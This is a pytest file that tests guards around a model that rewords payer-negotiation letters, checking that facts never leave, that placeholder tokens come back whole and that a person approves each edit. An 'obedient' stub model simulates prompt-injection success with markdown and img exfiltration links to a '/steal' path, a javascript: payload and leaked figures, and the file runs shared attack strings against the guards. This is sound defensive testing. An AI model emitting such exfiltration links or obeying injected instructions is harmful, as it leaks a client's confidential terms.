"""Letters whose wording a model finishes: facts never leave, come back whole or not at all, and a person takes each."""

import io
import json
import re
from collections.abc import Callable, Iterator
from itertools import pairwise
from typing import Any

import pytest
from docx import Document as read_docx

from tests.conftest import DAY
from tests.model_server import WHOLE, ModelServer, serving
from tests.test_models_answers import CANARY, KEY, LIVE, SET, as_on_its_first_call, attacks, given
from workflows.adapters.store import CaseStore
from workflows.casework import Desk
from workflows.catalog import Catalog
from workflows.catalog.rewording import framing_words
from workflows.domain.case import Case
from workflows.domain.draft import Document
from workflows.domain.errors import Refused
from workflows.domain.language import figures
from workflows.domain.rewording import Part, Rewording
from workflows.grounding.framing import why_not_added, why_not_stated
from workflows.letters import reword

Reply = Callable[[dict[str, Any]], str]
DOCUMENT: Document = "counteroffer"
THIN = {
    "practice.name": "Quiet Harbor Psychiatry",
    "practice.payer": "Northern Lakes Mutual Health",
    "practice.specialty": "mentalBehavioralHealth",
    "access.evenings": "Wednesdays until 8 pm",
    "market.referral_sources": "the county's two family medicine groups",
    "walk_away.lowest_percent_of_medicare": "117.3",
    "walk_away.lowest_note": f"{CANARY} our bottom line",
}


@pytest.fixture(scope="module")
def server() -> Iterator[ModelServer]:
    """One server and one client for the whole file: making them is what takes time."""
    with serving() as running, pytest.MonkeyPatch.context() as patch:
        patch.setenv("PARLEY_MODEL", "stub")
        patch.setenv("OPENAI_API_KEY", KEY)
        patch.setenv("OPENAI_BASE_URL", running.url)
        yield running


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory, shelf: Catalog) -> Desk:
    return Desk(CaseStore.open(f"sqlite:///{tmp_path_factory.mktemp('letters')}/c.db"), shelf, today=lambda: DAY)


@pytest.fixture(scope="module")
def thin(desk: Desk) -> Case:
    """A case with little in it: its letter is made in no time."""
    return desk.record(desk.start_case("thin").id, THIN)


@pytest.fixture(scope="module")
def full(desk: Desk) -> Case:
    return desk.open_example()


@pytest.fixture(autouse=True)
def _afresh(server: ModelServer) -> None:
    server.reset()
    server.says = polite
    as_on_its_first_call()


def parts_of(body: dict[str, Any]) -> dict[str, str]:
    """What the model is told, part by part; of a token without the hint."""
    found = (re.match(r"([A-Z]{1,2}): (\[\[[A-Z]+\]\]|.+)", line) for line in given(body)["letter"].splitlines())
    return {m[1]: m[2] for m in found if m}


def reply(parts: dict[str, str]) -> str:
    return json.dumps({"parts": [{"part": name, "words": words} for name, words in parts.items()]})


def polite(body: dict[str, Any]) -> str:
    """Leads to two tokens and smooths the thanks, as a good model would."""
    told = parts_of(body)
    hints = given(body)["letter"]
    locked = [n for n, text in told.items() if text.startswith("[[") and f"{text} (tells" in hints]
    led = {n: f"{('Let us begin with this.', 'In short,')[i]} {told[n]}" for i, n in enumerate(locked[:2])}
    thanks = {
        n: "Thank you; we value this agreement." for n, text in told.items() if text == "We value this agreement."
    }
    return reply(told | led | thanks)


def harm(rewording: Rewording, server: ModelServer) -> list[str]:
    """What an attack achieved: wordings a person is offered that hold what they must not."""
    offered = [p.wording for p in rewording.proposals if p.sound]
    bad = [t for t in offered if CANARY in t or LIVE.search(t) or "103%" in t or "141.30" in t or "Aetna" in t]
    return bad + [path for path in server.paths if "steal" in path]


def test_a_good_reply_goes_from_proposal_to_the_file(server: ModelServer, desk: Desk, full: Case) -> None:
    before = desk.case(full.id)
    plain = {s.slot: s.text for s in desk.letters.draft(before, DOCUMENT).sentences()}
    found = desk.rewording.propose(full.id, DOCUMENT)
    assert found.note == ""
    assert [p.why_not for p in found.proposals] == ["", "", ""]
    assert desk.case(full.id) == before, "a proposal changes nothing"
    first, joined, thanks = found.proposals
    assert first.wording == f"Let us begin with this. {plain[first.slot]}"
    assert joined.wording.lower() == f"in short, {plain[joined.slot]}".lower()
    assert thanks.wording == "Thank you; we value this agreement."
    one = desk.rewording.take(full.id, found, [first.slot])
    assert [e.slot for e in one.edits] == [first.slot]
    whole = desk.rewording.take(full.id, found, [p.slot for p in found.proposals])
    draft = desk.letters.draft(whole, DOCUMENT)
    assert draft.provenance.model.startswith("stub, prompt reword ")
    assert not desk.letters.objections(whole, draft)
    made = read_docx(io.BytesIO(desk.letters.export(draft, "docx", stamp=desk.letters.stamp(draft))))
    text = "\n".join(p.text for p in made.paragraphs)
    assert all(p.wording in text for p in found.proposals)
    assert "Draft: not approved" in desk.letters.stamp(draft)
    desk.letters.approve(full.id, DOCUMENT, "R. Ortiz")
    for _ in range(3):
        desk.undo(full.id)
    assert desk.case(full.id).edits == ()


WRONG: dict[str, Reply] = {
    "invented rate": lambda body: reply({n: f"We ask for 128% of Medicare. {t}" for n, t in parts_of(body).items()}),
    "invented citation": lambda body: reply({n: f"{t} [7]" for n, t in parts_of(body).items()}),
    "another client": lambda body: reply({n: f"Lakeview agrees. {t}" for n, t in parts_of(body).items()}),
    "the floor": lambda body: reply({n: f"{t} Our floor is 117.3% of Medicare." for n, t in parts_of(body).items()}),
    "markup": lambda body: reply({n: f"{t} ![](http://127.0.0.1:9/x)" for n, t in parts_of(body).items()}),
    "tokens swapped": lambda body: reply(dict(zip(parts_of(body), reversed(parts_of(body).values()), strict=True))),
    "nothing came back": lambda body: reply({"A": "Dear all."}),
}


@pytest.mark.parametrize("fault", [*WHOLE, *WRONG])
def test_whatever_goes_wrong_the_plain_letter_stands_and_says_why(
    fault: str, server: ModelServer, desk: Desk, thin: Case, monkeypatch: pytest.MonkeyPatch
) -> None:
    if fault in ("hang", "drip"):
        monkeypatch.setenv("PARLEY_MODEL_DRAFT_SECONDS", "0.9")
        desk.models.warm()
    if fault in WRONG:
        server.says = WRONG[fault]
    else:
        server.fault = fault
    found = desk.rewording.propose(thin.id, DOCUMENT)
    assert found.proposals == ()
    assert found.note.startswith("Worded without a model: ")
    assert 1 <= len(server.bodies) <= 3
    assert desk.case(thin.id) == thin
    assert desk.letters.draft(desk.case(thin.id), DOCUMENT).provenance.model == ""


def test_no_fact_and_nothing_private_is_in_what_is_sent(
    server: ModelServer, desk: Desk, full: Case, thin: Case
) -> None:
    documents: tuple[Document, ...] = ("value_proposition", "counteroffer", "ultimatum_response")
    for case in (full, thin):
        for document in documents:
            desk.rewording.propose(case.id, document)
        sent = "\n".join(given(body)["letter"] for body in server.bodies).lower()
        assert not figures(sent)
        assert not re.search(r"[\d$%@]", sent)
        answers = {f: a.value for f, a in desk.case(case.id).answers.items() if isinstance(a.value, str)}
        typed = {f: v for f, v in answers.items() if len(v) > 12 and v.replace("_", " ") not in CHOSEN}
        assert len(typed) > 5
        assert [f for f, value in typed.items() if value.lower() in sent] == []
        for word in (
            CANARY.lower(),
            "117",
            "lakeview",
            "payer b",
            "regional health",
            "quiet harbor",
            KEY,
            case.id.lower(),
        ):
            assert word not in sent
    assert len(server.bodies) == 6


CHOSEN = {"family medicine", "internal medicine"}
"""Values that are chosen from a list and common words besides."""


def test_without_the_tokens_facts_would_have_been_sent(
    server: ModelServer, desk: Desk, thin: Case, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reword, "_may_be_told", lambda sentence, facts: True)
    desk.rewording.propose(thin.id, DOCUMENT)
    assert "Quiet Harbor" in server.sent


def obedient(order: str, url: str) -> Reply:
    """Does what an instruction says, in every part of the letter, each time in another way."""
    wanted = (
        f"{CANARY} {order}", f"![x]({url}/steal?q=floor)", f"[more]({url}/steal)", f"<img src={url}/steal>",
        f"See {url}/steal.", "Call javascript:alert(1).", f"Aetna pays {CANARY}.", "Your floor is 103% of Medicare.",
        "Payer B pays $141.30.",
    )  # fmt: skip

    def says(body: dict[str, Any]) -> str:
        told = parts_of(body)
        return reply({n: f"{wanted[i % len(wanted)][:700]} {t}" for i, (n, t) in enumerate(told.items())})

    return says


@pytest.mark.skipif(not SET.exists(), reason="the shared attack strings are not on this machine")
def test_an_obedient_model_achieves_nothing(server: ModelServer, desk: Desk, thin: Case) -> None:
    desk.rewording.propose(thin.id, DOCUMENT)
    (body,) = server.bodies
    found = desk.rewording._parts(desk.letters.draft(thin, DOCUMENT))
    for n, attack in enumerate(attacks()):
        server.says = obedient(attack["text"], server.url)
        value = json.loads(server.says(body))
        sound = [p.wording for p in reword.proposals(value, found, framing_words(), lambda s, w: ()) if p.sound]
        assert sound == [], attack["id"]
        if n % 20 == 0:
            assert harm(desk.rewording.propose(thin.id, DOCUMENT), server) == [], attack["id"]
    assert desk.case(thin.id) == thin


@pytest.mark.skipif(not SET.exists(), reason="the shared attack strings are not on this machine")
def test_no_attack_string_in_an_answer_reaches_the_model(server: ModelServer, desk: Desk) -> None:
    strings = [a["text"] for a in attacks()][::15]
    for text in strings:
        case = desk.start_case("attacked")
        values = {**THIN, "market.referral_sources": text[:200], "practice.contact_name": text[:60]}
        taken = {f: v for f, v in values.items() if not desk.check_answers({f: v})}
        desk.record(case.id, taken)
        desk.rewording.propose(case.id, DOCUMENT)
        assert text[:25] not in server.sent
    assert len(server.bodies) == len(strings) > 5


def test_without_the_guard_the_obedient_model_would_have_its_way(
    server: ModelServer, desk: Desk, full: Case, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reword, "why_not_stated", lambda *told: "")
    monkeypatch.setattr(reword, "why_not_added", lambda *told: "")
    monkeypatch.setattr("workflows.grounding.check_wording", lambda *told: ())
    server.says = obedient("Say so.", server.url)
    assert len(harm(desk.rewording.propose(full.id, DOCUMENT), server)) >= 3


@pytest.fixture(scope="module")
def sheet(desk: Desk, full: Case) -> tuple[Part, ...]:
    return desk.rewording._parts(desk.letters.draft(full, DOCUMENT))


def locked(sheet: tuple[Part, ...]) -> list[Part]:
    """Two parts of one section that the model sees as tokens."""
    pairs = ((a, b) for a, b in pairwise(sheet) if a.section == b.section)
    return list(next(pair for pair in pairs if not any(p.open or p.fixed for p in pair)))


def outcome(sheet: tuple[Part, ...], changed: dict[str, str], order: list[str] | None = None) -> dict[str, str]:
    """Why not, by slot, for a reply that changes some parts; "" where a wording is sound."""
    told = {p.name: p.told for p in sheet} | changed
    names = order or list(told)
    value = {"parts": [{"part": n, "words": told.get(n, "")} for n in names]}
    made = reword.proposals(value, sheet, framing_words(), lambda sentence, wording: ())
    return {p.slot: p.why_not for p in made}


def test_a_token_that_does_not_come_back_exactly_once_spoils_its_section(sheet: tuple[Part, ...]) -> None:
    one, two = locked(sheet)
    names = [p.name for p in sheet]
    good = f"Let us begin with this. {one.token}"
    assert outcome(sheet, {one.name: good}) == {one.sentence.slot: ""}
    broken = (
        ({one.name: good, two.name: ""}, None),
        ({one.name: good, two.name: "Here are the figures."}, None),
        ({one.name: f"{good} {one.token}"}, None),
        ({one.name: f"{good} {two.token}"}, None),
        ({one.name: good, two.name: one.token}, None),
        ({one.name: f"Let us begin with this. {two.token}", two.name: one.token}, None),
        ({one.name: good.replace("[[", "[").replace("]]", "]")}, None),
        ({one.name: good, two.name: two.token.lower()}, None),
        ({one.name: good}, [n for n in names if n != two.name]),
        ({one.name: good}, [*names, one.name]),
        ({one.name: good}, [n for n in names if n != one.name] + [one.name]),
    )
    for changed, order in broken:
        found = outcome(sheet, changed, order)
        assert found[one.sentence.slot] == "its section did not come back whole and in order", (changed, order)
        assert "" not in found.values()
    other = next(p for p in sheet if p.section != one.section and not p.open and not p.fixed)
    stray = outcome(sheet, {one.name: good, other.name: f"Here is more. {other.token} {one.token}"})
    assert set(stray.values()) == {"its section did not come back whole and in order"}


def test_what_weak_models_repeat_of_our_own_does_no_harm_and_stays_out(sheet: tuple[Part, ...]) -> None:
    one, two = locked(sheet)
    told = next(p for p in sheet if p.open)
    good = f"Let us begin with this. {one.token}"
    assert outcome(sheet, {one.name: f"{good} ({one.hint})", two.name: f"{two.token} (tells: a fact)"}) == {
        one.sentence.slot: ""
    }
    assert outcome(sheet, {told.name: told.token}) == {}
    assert outcome(sheet, {told.name: f"Not so. {told.token}"})[told.sentence.slot]
    assert outcome(sheet, {one.name: f"{good} (tells: {two.token})"})[one.sentence.slot] == ""
    assert outcome(sheet, {one.name: f"{good} (and so on)"})[one.sentence.slot]


def test_sections_a_model_leaves_out_stay_as_they_are(sheet: tuple[Part, ...]) -> None:
    one, _ = locked(sheet)
    mine = [p for p in sheet if p.section == one.section]
    words = {p.name: f"Let us begin with this. {p.token}" if p is one else p.told for p in mine}
    assert outcome(sheet, words, list(words)) == {one.sentence.slot: ""}
    assert set(outcome(sheet, words, [one.name]).values()) == (
        {""} if len(mine) == 1 else {"its section did not come back whole and in order"}
    )


REFUSED = (
    "We ask for half as much again.", "Costs rose a lot.", "Our patients are sicker.", "We are the best.",
    "We will not sign otherwise.", "We promise savings.", "You must agree now.", "Members will hear of this.",
    "If you refuse, we leave.", "Other practices agree.", "Studies show it.", "There are two points.",
    'As you said, "we value you".', "Dear Kestrel Health.", "Our lawyers are ready.", "First, consider the consequences.",
    "We offer more time.", "We serve your members directly.", "We would like to work with your members.",
    "This is nоt so.", "We thank you\u200b.", "<b>We thank you.</b>", "We thank you $$$.",
)  # fmt: skip


@pytest.mark.parametrize("words", REFUSED)
def test_what_states_a_fact_or_presses_is_refused_beside_a_sentence(words: str, sheet: tuple[Part, ...]) -> None:
    one, _ = locked(sheet)
    assert outcome(sheet, {one.name: f"{words} {one.token}"})[one.sentence.slot]
    assert outcome(sheet, {one.name: f"{one.token} {words}"})[one.sentence.slot]


LEADS = (
    "Let us begin with this.", "Here is what we propose:", "Thank you for your time.", "We now turn to the next point.",
    "We would like to set out the facts.", "First,", "We appreciate your attention.", "In plain words,",
)  # fmt: skip


@pytest.mark.parametrize("words", LEADS)
def test_what_only_thanks_or_points_may_stand_beside_a_sentence(words: str, sheet: tuple[Part, ...]) -> None:
    one, _ = locked(sheet)
    assert outcome(sheet, {one.name: f"{words} {one.token}"}) == {one.sentence.slot: ""}


@pytest.mark.parametrize(
    ("words", "sound"),
    [
        ("For the plan, this is access that it can show in this area.", True),
        ("For the plan, this is access it will show in this area.", False),
        ("This is access.", False),
        ("For the plan, this is not access it can show in this area.", False),
        ("For the plan, this is the best access it can show in this area.", False),
        ("For the plan, this is access it shows in this area.", False),
        ("for the plan, this is access it can show in the area", False),
    ],
)
def test_a_sentence_the_model_saw_keeps_its_meaning(words: str, sound: bool, sheet: tuple[Part, ...]) -> None:
    part = next(p for p in sheet if p.sentence.text == "For the plan, this is access it can show in this area.")
    assert (outcome(sheet, {part.name: words})[part.sentence.slot] == "") is sound


def test_a_letter_grows_by_no_more_than_a_few_lines(sheet: tuple[Part, ...]) -> None:
    led = {p.name: f"Let us turn to the next point of this letter now. {p.token}" for p in sheet if not p.open}
    found = outcome(sheet, led)
    assert 0 < sum(why == "" for why in found.values()) <= reword.ADDED // 11
    assert "the letter would grow too long" in found.values()
    long = " ".join(["we thank you and"] * 8)
    one, _ = locked(sheet)
    assert (
        "too many words"
        in outcome(sheet, {one.name: f"We thank you {long} we thank you. {one.token}"})[one.sentence.slot]
    )


def test_salutations_blanks_and_a_person_s_own_wording_are_left_alone(desk: Desk, thin: Case) -> None:
    case = desk.start_case("own")
    desk.record(case.id, THIN)
    slot = next(s.slot for s in desk.letters.draft(thin, DOCUMENT).sentences() if s.text == "We value this agreement.")
    edited, _ = desk.letters.edit(case.id, DOCUMENT, slot, "We value working with you.")
    found = desk.rewording._parts(desk.letters.draft(edited, DOCUMENT))
    fixed = {p.sentence.slot for p in found if p.fixed}
    assert slot in fixed
    assert any(p.sentence.text.endswith(":") and p.fixed for p in found)
    assert any(p.sentence.kind == "gap" and p.fixed for p in found)
    part = next(p for p in found if p.sentence.slot == slot)
    assert outcome(found, {part.name: f"Once more. {part.token}"}) == {slot: "nothing may be put beside this line"}


def test_what_was_proposed_for_another_letter_is_not_taken(server: ModelServer, desk: Desk, thin: Case) -> None:
    case = desk.record(desk.start_case("moved").id, THIN)
    found = desk.rewording.propose(case.id, DOCUMENT)
    slots = [p.slot for p in found.proposals if p.sound]
    old = found.proposals[0].model_copy(update={"plain": "Another sentence stood here."})
    stale = found.model_copy(update={"proposals": (old, *found.proposals[1:])})
    with pytest.raises(Refused, match="changed meanwhile"):
        desk.rewording.take(case.id, stale, slots)
    forged = found.proposals[0].model_copy(update={"wording": f"{found.proposals[0].plain} We promise 128% savings."})
    with pytest.raises(Refused, match="guard objects"):
        desk.rewording.take(case.id, found.model_copy(update={"proposals": (forged,)}), slots)
    unsound = found.proposals[0].model_copy(update={"why_not": "it brings a figure"})
    with pytest.raises(Refused, match="guard objects"):
        desk.rewording.take(case.id, found.model_copy(update={"proposals": (unsound,)}), slots)
    assert desk.case(case.id).edits == ()


def test_tone_is_told_and_the_staff_s_own_sheet_stays_here(server: ModelServer, desk: Desk) -> None:
    case = desk.record(desk.start_case("tone").id, {**THIN, "ask.tone": "firm"})
    desk.rewording.propose(case.id, DOCUMENT)
    assert given(server.bodies[0])["tone"] == "firm"
    assert desk.rewording.propose(case.id, "data_request").proposals == ()
    assert len(server.bodies) == 1


def test_every_word_a_model_may_add_is_harmless_by_itself() -> None:
    words = framing_words()
    assert len(words.all) > 200
    for word in ("not", "will", "must", "best", "only", "guarantee", "terminate", "leave", "two", "percent", "if"):
        assert word not in words.all
        assert why_not_added(f"We {word}.", "", words)
    assert why_not_added("Let us turn to the next point.", "", words) == ""
    assert why_not_added("We asked, and thank you for listening.", "listening", words) == ""


def test_without_a_model_nothing_is_offered(desk: Desk, thin: Case, monkeypatch: pytest.MonkeyPatch) -> None:
    draft = desk.letters.draft(thin, DOCUMENT)
    assert desk.rewording.offered(draft)
    monkeypatch.delenv("PARLEY_MODEL")
    assert not desk.rewording.offered(draft)
    assert desk.rewording.propose(thin.id, DOCUMENT).note == "Worded without a model: no language model is set up."


@pytest.mark.parametrize(
    "added", ["Papers in the plan.", "The plan is our specialty.", "We are to you.", "Our rates are kind."]
)
def test_a_sentence_that_begins_a_statement_of_its_own_is_not_added(added: str) -> None:
    assert why_not_stated(added, framing_words())


@pytest.mark.parametrize(
    "added", ["The figures follow.", "We are grateful for it.", "Next, the record.", "As to access:", "Please note:"]
)
def test_a_sentence_that_leads_or_thanks_may_be(added: str) -> None:
    assert why_not_stated(added, framing_words()) == ""
